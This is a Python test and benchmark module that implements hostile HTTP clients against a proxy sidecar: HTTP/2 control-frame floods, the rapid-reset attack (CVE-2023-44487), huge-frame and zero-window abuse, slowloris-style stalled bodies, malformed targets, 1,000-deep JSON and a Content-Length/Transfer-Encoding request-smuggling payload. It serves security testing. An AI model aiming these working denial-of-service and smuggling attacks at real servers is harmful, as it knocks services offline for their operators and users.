"""Hostile clients over real TCP, for the security tests and `python -m bench.attacks`.

Theory of operation: each attack in `ATTACKS` is a worker loop that attacks one
(host, port) until a `threading.Event` is set, from plain blocking sockets in the
calling thread (no trio: the attacker must not share the sidecar's event loop, and
a thread per worker is what a crude real attacker is). `run(name, target,
duration_s, workers)` starts that many worker threads, stops them at the end and
returns one `Tally`: connections opened, units sent (frames, requests or sockets)
and what the sidecar answered (`outcomes`: "status:400", "goaway:ENHANCE_YOUR_CALM",
"rst:REFUSED_STREAM", "closed", "smuggled", ...), which tests assert and the
benchmark prints. Workers reconnect when the sidecar closes them, as an attacker
would: "full strength" means the attack never lets up.

`python -m proxy.testing.attacks NAME --target HOST:PORT --duration-s S [--workers N]`
runs one attack in its own process (the benchmark's way: the attacker's CPU then
never stalls the load generator's threads) and prints the tally as one JSON line.

The attacks are those of issue 13: control-frame floods (PING, SETTINGS,
WINDOW_UPDATE, PRIORITY), a client that floods PINGs and never reads (write-queue
growth), frame headers announcing 16 MiB, zero-window streams, rapid reset,
stalled request bodies, request targets that are not origin-form, JSON nested
1,000 deep, and Content-Length with Transfer-Encoding (request smuggling). Frames
are built with hyperframe and hpack (what h2 itself uses), never h2's state machine,
which would refuse to misbehave. Production code never imports this module.
"""

from __future__ import annotations

import argparse
import json
import select
import selectors
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import cast

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHAT_BODY = b'{"model": "m", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 8}'
DEEP_JSON = b'{"model": "m", "prompt": ' + b"[" * 1000 + b"]" * 1000 + b"}"  # a field of any JSON shape
BATCH = 512  # control frames per sendall: a flood is limited by the socket, not by Python
RECONNECT_S = 0.02
IO_TIMEOUT_S = 5.0


@dataclass
class Tally:
    """What one attack did and what it was answered; safe to update from several worker threads."""

    name: str
    connections: int = 0
    sent: int = 0
    outcomes: Counter = field(default_factory=Counter)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def add(self, *, connections: int = 0, sent: int = 0, outcome: str | None = None) -> None:
        with self._lock:
            self.connections += connections
            self.sent += sent
            if outcome is not None:
                self.outcomes[outcome] += 1

    def to_dict(self) -> dict:
        with self._lock:
            return {
                "name": self.name,
                "connections": self.connections,
                "sent": self.sent,
                "outcomes": dict(self.outcomes),
            }


Worker = Callable[[tuple[str, int], threading.Event, Tally], None]


@dataclass(frozen=True)
class Attack:
    name: str
    worker: Worker
    workers: int  # threads at full strength
    about: str


# --- HTTP/2 plumbing ------------------------------------------------------------------


class FrameReader:
    """Parses the frames a server sends: GOAWAY and RST_STREAM codes, response statuses per stream."""

    def __init__(self) -> None:
        self._buf = b""
        self._decoder = hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 20
        self.goaway: str | None = None
        self.resets: Counter = Counter()
        self.statuses: Counter = Counter()
        self.answered: set[int] = set()  # streams that got a response head or a reset
        self.responses: dict[int, tuple[int, bool]] = {}  # stream -> (status, relayed from upstream: has `via`)

    def feed(self, data: bytes) -> None:
        self._buf += data
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[:3], "big")
            if len(self._buf) < 9 + length:
                return
            kind, flags, sid = self._buf[3], self._buf[4], int.from_bytes(self._buf[5:9], "big") & 0x7FFFFFFF
            payload, self._buf = self._buf[9 : 9 + length], self._buf[9 + length :]
            if kind == 0x7 and len(payload) >= 8:
                self.goaway = _code_name(int.from_bytes(payload[4:8], "big"))
            elif kind == 0x3 and len(payload) >= 4:
                self.resets[_code_name(int.from_bytes(payload[:4], "big"))] += 1
                self.answered.add(sid)
            elif kind == 0x1:
                self._headers(payload, flags, sid)

    def _headers(self, payload: bytes, flags: int, sid: int) -> None:
        if flags & 0x8:  # PADDED
            payload = payload[1 : len(payload) - payload[0]]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
        try:
            headers = self._decoder.decode(payload, raw=True)
        except hpack.HPACKError:
            return
        status = relayed = None
        for name, value in headers:
            if name == b":status":
                status = value.decode()
                self.statuses[status] += 1
            elif name == b"via":
                relayed = True
        if status is not None and not status.startswith("1"):
            self.answered.add(sid)
            self.responses[sid] = (int(status), bool(relayed))


def _code_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class H2Conn:
    """A raw h2c connection: preface and SETTINGS sent; `reader` drains and parses what comes back."""

    def __init__(self, target: tuple[str, int], *, settings: dict[int, int] | None = None, read: bool = True) -> None:
        self.sock = socket.create_connection(target, timeout=IO_TIMEOUT_S)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.frames = FrameReader()
        self.encoder = hpack.Encoder()
        self.next_sid = 1
        self.closed = threading.Event()
        self.sock.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        while True:
            try:
                data = self.sock.recv(65_536)
            except TimeoutError:
                continue  # silence, not a close: a zero-window stream hears nothing after its head
            except OSError:
                break  # reset, or closed by us
            if not data:
                break
            self.frames.feed(data)
        self.closed.set()

    def headers(self, path: bytes, *, method: bytes = b"POST", end_stream: bool = False) -> tuple[int, bytes]:
        sid, self.next_sid = self.next_sid, self.next_sid + 2
        block = self.encoder.encode(
            [(b":method", method), (b":scheme", b"http"), (b":authority", b"x"), (b":path", path),
             (b"content-type", b"application/json")]
        )  # fmt: skip
        flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
        return sid, HeadersFrame(sid, data=block, flags=flags).serialize()

    def request(self, path: bytes = b"/v1/chat/completions", body: bytes = CHAT_BODY) -> tuple[int, bytes]:
        sid, head = self.headers(path)
        return sid, head + DataFrame(sid, data=body, flags=["END_STREAM"]).serialize()

    def outcome(self) -> str:
        if self.frames.goaway is not None:
            return f"goaway:{self.frames.goaway}"
        return "closed"

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def _send_all(sock: socket.socket, data: bytes, stop: threading.Event) -> bool:
    """sendall that gives up when `stop` is set (False): a flood blocks on a full socket, and must still end on time."""
    view = memoryview(data)
    while view:
        if stop.is_set():
            return False
        _, writable, _ = select.select([], [sock], [], 0.1)
        if writable:
            view = view[sock.send(view) :]
    return True


def _flood(frames: bytes, *, read: bool = True, rcvbuf: int | None = None) -> Worker:
    """A worker that sends `frames` (one batch) as fast as the socket takes them, reconnecting when closed."""

    def worker(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
        while not stop.is_set():
            try:
                conn = H2Conn(target, read=read)
            except OSError:
                tally.add(outcome="connect_failed")
                stop.wait(RECONNECT_S)
                continue
            if rcvbuf is not None:
                conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            tally.add(connections=1)
            try:
                while _send_all(conn.sock, frames, stop):
                    tally.add(sent=BATCH)
            except OSError:
                conn.closed.wait(0.5)
                tally.add(outcome=conn.outcome())
            finally:
                conn.close()
            stop.wait(RECONNECT_S)

    return worker


def _priority_batch() -> bytes:
    return b"".join(PriorityFrame(2 * i + 1, depends_on=0, stream_weight=15).serialize() for i in range(BATCH))


def rapid_reset(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
    """Open a stream with a whole request and reset it at once (CVE-2023-44487), in batches."""
    while not stop.is_set():
        try:
            conn = H2Conn(target)
        except OSError:
            stop.wait(RECONNECT_S)
            continue
        tally.add(connections=1)
        try:
            while not stop.is_set() and not conn.closed.is_set() and conn.next_sid < 2**31 - 2 * 64:
                batch = []
                for _ in range(64):
                    sid, frames = conn.request()
                    batch.append(frames + RstStreamFrame(sid, error_code=ErrorCodes.CANCEL).serialize())
                if not _send_all(conn.sock, b"".join(batch), stop):
                    break
                tally.add(sent=64)
        except OSError:
            pass
        conn.closed.wait(0.1 if stop.is_set() else 0.5)
        tally.add(outcome=conn.outcome())
        for code, n in conn.frames.resets.items():
            tally.outcomes[f"rst:{code}"] += n
        conn.close()
        stop.wait(RECONNECT_S)


def huge_frames(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
    """A DATA frame header announcing 16 MiB, then its payload at ~32 MB/s: buffered whole, or refused from the header?"""
    chunk = b"\0" * 65_536
    while not stop.is_set():
        try:
            conn = H2Conn(target)
        except OSError:
            stop.wait(RECONNECT_S)
            continue
        tally.add(connections=1)
        try:
            conn.sock.sendall((0xFFFFFF).to_bytes(3, "big") + b"\x00\x00" + (1).to_bytes(4, "big"))
            tally.add(sent=1)
            for _ in range(0xFFFFFF // len(chunk)):
                if stop.is_set() or conn.closed.is_set():
                    break
                if not _send_all(conn.sock, chunk, stop):
                    break
                time.sleep(0.002)
        except OSError:
            pass
        conn.closed.wait(0.1 if stop.is_set() else 1.0)
        tally.add(outcome=conn.outcome())
        conn.close()
        stop.wait(RECONNECT_S)


def zero_window(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
    """32 streams on a connection that grants responses no window, and never a WINDOW_UPDATE."""
    while not stop.is_set():
        try:
            conn = H2Conn(target, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        except OSError:
            stop.wait(RECONNECT_S)
            continue
        tally.add(connections=1)
        try:
            conn.sock.sendall(b"".join(conn.request()[1] for _ in range(32)))
            tally.add(sent=32)
            while not stop.is_set() and not conn.closed.is_set():
                stop.wait(0.1)
        except OSError:
            pass
        tally.add(outcome=conn.outcome() if conn.closed.is_set() else "held")
        for status, n in conn.frames.statuses.items():  # response heads: the upstream answered
            tally.outcomes[f"status:{status}"] += n
        for code, n in conn.frames.resets.items():
            tally.outcomes[f"rst:{code}"] += n
        conn.close()


# --- HTTP/1.1 plumbing ----------------------------------------------------------------


class H1Reader:
    """Reads whole responses (content-length or chunked) from one socket, keeping what follows."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock, self._buf = sock, b""

    def _fill(self) -> bool:
        data = self.sock.recv(65_536)
        self._buf += data
        return bool(data)

    def response(self, head_request: bool = False) -> tuple[int, dict[bytes, bytes]] | None:
        """(status, headers) of the next whole response; None when the connection ended first.

        Socket timeouts propagate (`TimeoutError`): the caller tells silence from a close.
        """
        try:
            while b"\r\n\r\n" not in self._buf:
                if not self._fill():
                    return None
            head, self._buf = self._buf.split(b"\r\n\r\n", 1)
            lines = head.split(b"\r\n")
            status = int(lines[0].split(b" ", 2)[1])
            headers = {}
            for line in lines[1:]:
                name, _, value = line.partition(b":")
                headers[name.strip().lower()] = value.strip()
            if head_request or status < 200 or status in (204, 304):
                return status, headers  # no body, whatever the headers say
            if b"content-length" in headers:
                need = int(headers[b"content-length"])
                while len(self._buf) < need:
                    if not self._fill():
                        return None
                self._buf = self._buf[need:]
            elif headers.get(b"transfer-encoding", b"").lower() == b"chunked":
                while b"\r\n0\r\n\r\n" not in b"\r\n" + self._buf:
                    if not self._fill():
                        return None
                self._buf = (b"\r\n" + self._buf).split(b"\r\n0\r\n\r\n", 1)[1]
            return status, headers
        except TimeoutError:
            raise
        except (OSError, ValueError, IndexError):
            return None


def _h1_requests(requests: list[bytes], *, smuggle_check: bool = False) -> Worker:
    """A worker that sends each request in turn on a keep-alive connection and notes the status."""

    def worker(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
        i = 0
        while not stop.is_set():
            try:
                sock = socket.create_connection(target, timeout=IO_TIMEOUT_S)
            except OSError:
                tally.add(outcome="connect_failed")
                stop.wait(RECONNECT_S)
                continue
            tally.add(connections=1)
            reader = H1Reader(sock)
            try:
                while not stop.is_set():
                    sock.sendall(requests[i % len(requests)])
                    i += 1
                    tally.add(sent=1)
                    got = reader.response()
                    if got is None:
                        tally.add(outcome="closed")
                        break
                    tally.add(outcome=f"status:{got[0]}")
                    if smuggle_check:
                        tally.add(outcome=_after_cl_te(sock, reader))
                        break
                    if got[1].get(b"connection", b"").lower() == b"close":
                        break
            except TimeoutError:
                tally.add(outcome="timeout")
            except OSError:
                tally.add(outcome="reset")
            finally:
                sock.close()

    return worker


def _after_cl_te(sock: socket.socket, reader: H1Reader) -> str:
    """After answering a CL+TE request: did the bytes after the chunked body run as a request of their own?"""
    sock.settimeout(1.0)
    try:
        second = reader.response()
    except OSError:
        return "kept_open"
    finally:
        sock.settimeout(IO_TIMEOUT_S)
    if second is None:
        return "closed_after"
    return "smuggled"


def _request(method: bytes, target: bytes, body: bytes = b"", extra: bytes = b"") -> bytes:
    head = method + b" " + target + b" HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n" + extra
    return head + b"content-length: %d\r\n\r\n" % len(body) + body


BAD_TARGETS = [
    _request(b"POST", b"http://x/v1/chat/completions", CHAT_BODY),  # absolute-form: RFC 9112 says accept it
    _request(b"GET", b"http://x/v1/models"),
    _request(b"OPTIONS", b"*"),
    _request(b"GET", b"v1/models"),  # no leading slash
    _request(b"GET", b"x" * 10),
]
CL_TE = (
    b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n"
    b"0\r\n\r\nGET /SMUGGLED HTTP/1.1\r\nhost: x\r\n\r\n"
)


def _h1_once(target: tuple[str, int], request: bytes, tally: Tally) -> None:
    """One request on a fresh connection; notes the status, or how the connection ended."""
    try:
        sock = socket.create_connection(target, timeout=IO_TIMEOUT_S)
    except OSError:
        tally.add(outcome="connect_failed")
        return
    tally.add(connections=1, sent=1)
    try:
        sock.sendall(request)
        got = H1Reader(sock).response()
        tally.add(outcome="closed" if got is None else f"status:{got[0]}")
    except TimeoutError:
        tally.add(outcome="timeout")
    except OSError:
        tally.add(outcome="reset")
    finally:
        sock.close()


def _h2_bad_paths(target: tuple[str, int], tally: Tally) -> None:
    """Streams with an empty, a relative and a `*` :path: h2 lets them through to the handler."""
    try:
        conn = H2Conn(target)
    except OSError:
        tally.add(outcome="connect_failed")
        return
    tally.add(connections=1)
    try:
        for path in (b"", b"v1/models", b"*") * 8:
            _, frames = conn.headers(path, method=b"GET", end_stream=True)
            conn.sock.sendall(frames)
            tally.add(sent=1)
        deadline = time.monotonic() + 1.0
        while (
            sum(conn.frames.statuses.values()) + sum(conn.frames.resets.values()) < 24 and time.monotonic() < deadline
        ):
            if conn.closed.wait(0.01):
                break
    except OSError:
        pass
    for status, n in conn.frames.statuses.items():
        tally.outcomes[f"status:{status}"] += n
    for code, n in conn.frames.resets.items():
        tally.outcomes[f"rst:{code}"] += n
    if conn.frames.goaway is not None:
        tally.add(outcome=f"goaway:{conn.frames.goaway}")
    conn.close()


def bad_targets(target: tuple[str, int], stop: threading.Event, tally: Tally) -> None:
    """HTTP/1.1 targets that are not origin-form, then h2 paths, in turn."""
    while not stop.is_set():
        for request in BAD_TARGETS:
            _h1_once(target, request, tally)
        _h2_bad_paths(target, tally)


def stalled_bodies(target: tuple[str, int], stop: threading.Event, tally: Tally, sockets: int = 1100) -> None:
    """Heads announcing a 100 kB body, a few bytes of it, then nothing; a socket the sidecar closes is replaced."""
    head = b'POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n{"mo'
    held = selectors.DefaultSelector()  # epoll: thousands of sockets, past select()'s 1,024
    try:
        while not stop.is_set():
            while len(held.get_map()) < sockets and not stop.is_set():
                try:
                    sock = socket.create_connection(target, timeout=IO_TIMEOUT_S)
                    sock.sendall(head)
                except OSError:
                    tally.add(outcome="connect_failed")
                    stop.wait(RECONNECT_S)
                    break
                held.register(sock, selectors.EVENT_READ)
                tally.add(connections=1, sent=1)
            ready = held.select(0.2)
            for key, _ in ready:
                sock = cast(socket.socket, key.fileobj)  # registered above
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                tally.add(outcome=f"status:{int(data.split(b' ', 2)[1])}" if data.startswith(b"HTTP/1.") else "closed")
                held.unregister(sock)
                sock.close()
            if not ready:
                stop.wait(0.1)
    finally:
        with tally._lock:
            tally.outcomes["held_at_end"] += len(held.get_map())
        for key in list(held.get_map().values()):
            cast(socket.socket, key.fileobj).close()
        held.close()


ATTACKS: dict[str, Attack] = {
    a.name: a
    for a in [
        Attack("ping_flood", _flood(PingFrame(0, opaque_data=b"rampmetr").serialize() * BATCH), 2, "PING frames as fast as the socket takes them"),
        Attack("settings_flood", _flood(SettingsFrame(0).serialize() * BATCH), 2, "empty SETTINGS frames, each needing an ACK"),
        Attack("window_update_flood", _flood(WindowUpdateFrame(0, window_increment=1).serialize() * BATCH), 2, "1-byte connection WINDOW_UPDATEs"),
        Attack("priority_flood", _flood(_priority_batch()), 2, "PRIORITY frames for idle streams"),
        Attack("write_queue", _flood(PingFrame(0, opaque_data=b"rampmetr").serialize() * BATCH, read=False, rcvbuf=4096), 2, "PING flood from a client that never reads the ACKs"),
        Attack("huge_frames", huge_frames, 20, "frame headers announcing 16 MiB, payload trickled"),
        Attack("zero_window", zero_window, 2, "32 streams per connection with a zero response window"),
        Attack("rapid_reset", rapid_reset, 2, "HEADERS+DATA then RST_STREAM(CANCEL), 64 streams a batch"),
        Attack("stalled_bodies", stalled_bodies, 4, "1,100 sockets per worker: a head, 4 body bytes, then silence"),
        Attack("bad_targets", bad_targets, 2, "absolute-form, *, relative and empty targets over h1 and h2"),
        Attack("deep_json", _h1_requests([_request(b"POST", b"/v1/chat/completions", DEEP_JSON)]), 2, "a 2 KB body nested 1,000 deep"),
        Attack("cl_te", _h1_requests([CL_TE], smuggle_check=True), 2, "Content-Length and Transfer-Encoding, with a request smuggled after the chunked end"),
    ]
}  # fmt: skip


def run(name: str, target: tuple[str, int], duration_s: float, workers: int | None = None) -> Tally:
    """Run attack `name` against `target` for `duration_s` from `workers` threads (default: full strength)."""
    attack = ATTACKS[name]
    tally, stop = Tally(name), threading.Event()
    threads = [
        threading.Thread(target=attack.worker, args=(target, stop, tally), daemon=True, name=f"attack-{name}-{i}")
        for i in range(attack.workers if workers is None else workers)
    ]
    for thread in threads:
        thread.start()
    stop.wait(duration_s)
    stop.set()
    for thread in threads:
        thread.join(IO_TIMEOUT_S + 2)
    return tally


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m proxy.testing.attacks", description="Run one attack, print its tally."
    )
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--target", required=True, metavar="HOST:PORT")
    parser.add_argument("--duration-s", type=float, default=5.0)
    parser.add_argument("--workers", type=int, default=None)
    args = parser.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    tally = run(args.name, (host, int(port)), args.duration_s, args.workers)
    print(json.dumps(tally.to_dict()), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
